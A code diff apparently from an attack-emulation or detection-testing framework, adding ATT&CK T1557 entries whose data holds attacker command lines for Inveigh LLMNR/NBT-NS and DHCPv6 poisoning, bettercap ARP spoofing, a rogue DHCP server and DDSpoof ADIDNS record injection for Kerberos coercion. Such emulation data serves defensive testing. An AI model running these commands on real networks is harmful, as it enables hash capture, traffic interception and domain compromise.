@@ -70,4 +70,87 @@ export const credentialAccess2B = [
       ),
     ],
   ),
+  t("T1557", "Adversary-in-the-middle", "Inveigh/Responder-style poisoning on a workstation.", [
+    v(
+      "inveigh",
+      [{ ps: "Invoke-Inveigh -ConsoleOutput Y -NBNS Y -mDNS Y -HTTPS Y -Proxy Y", net: [["@dc", 445]] }],
+      { shell: "ps", elevated: true },
+    ),
+  ]),
+  t(
+    "T1557.001",
+    "LLMNR/NBT-NS poisoning and SMB relay",
+    "Inveigh, Responder for Windows or ntlmrelayx capturing hashes.",
+    [
+      v(
+        "inveigh",
+        [
+          {
+            ps: "Import-Module .\\Inveigh.ps1; Invoke-Inveigh -LLMNR Y -NBNS Y -ConsoleOutput Y -FileOutput Y",
+          },
+        ],
+        { shell: "ps", elevated: true },
+      ),
+      v("inveigh-exe", ["{{tools}}\\Inveigh.exe -LLMNR Y -NBNS Y -FileOutput Y"], { elevated: true }),
+    ],
+  ),
+  t("T1557.002", "ARP cache poisoning", "An ARP spoofing tool run on the host (arpspoof/Bettercap).", [
+    v(
+      "bettercap",
+      [
+        {
+          cmd: '{{tools}}\\bettercap.exe -eval "set arp.spoof.targets {{srvip}}; arp.spoof on; net.sniff on"',
+          loads: ["C:\\Windows\\System32\\Npcap\\Packet.dll", "C:\\Windows\\System32\\Npcap\\wpcap.dll"],
+        },
+      ],
+      { elevated: true },
+    ),
+    v("arp-static", ["arp -s {{srvip}} 00-15-5d-{{rand}}"], { elevated: true }),
+  ]),
+  t(
+    "T1557.003",
+    "DHCP spoofing",
+    "A rogue DHCP server, or DHCPv6 spoofing that makes the attacker the IPv6 DNS server.",
+    [
+      v("rogue-dhcp", ["{{tools}}\\dhcpsrv.exe -runapp"], { elevated: true }),
+      // DDSpoof: DHCP requests whose FQDN option makes the DHCP server (on the DC, with its machine account)
+      // register an arbitrary record in ADIDNS, here a marshalled-SPN name later used for Kerberos coercion.
+      v(
+        "ddspoof-dns-update",
+        [
+          {
+            cmd: "python.exe ddspoof.py -i Ethernet0",
+            image: "C:\\Program Files\\Python311\\python.exe",
+            cwd: "{{tools}}\\DDSpoof",
+            loads: ["C:\\Windows\\System32\\Npcap\\wpcap.dll"],
+            then: [
+              {
+                id: "record",
+                kind: "directory.change",
+                host: "@dc",
+                proc: "@dns",
+                operation: "create",
+                object:
+                  "DC={{srv}}1UWhRCAAAAAAAAAAAAAAAAAAAAAAAAAAAAwbEAYBAAAA,DC={{dns}},CN=MicrosoftDNS,DC=DomainDnsZones,{{domaindn}}",
+                objectClass: "dnsNode",
+                delayMs: 1500,
+              },
+            ],
+          },
+        ],
+        { elevated: true },
+      ),
+      // mitm6-style from Windows: Inveigh answers DHCPv6 solicits and then spoofs DNS.
+      v(
+        "inveigh-dhcpv6",
+        [
+          {
+            cmd: "{{tools}}\\Inveigh.exe -DHCPv6 Y -DNS Y -DNSTTL 60 -LLMNR N -NBNS N -FileOutput Y",
+            keep: false,
+          },
+        ],
+        { elevated: true },
+      ),
+    ],
+  ),
 ];
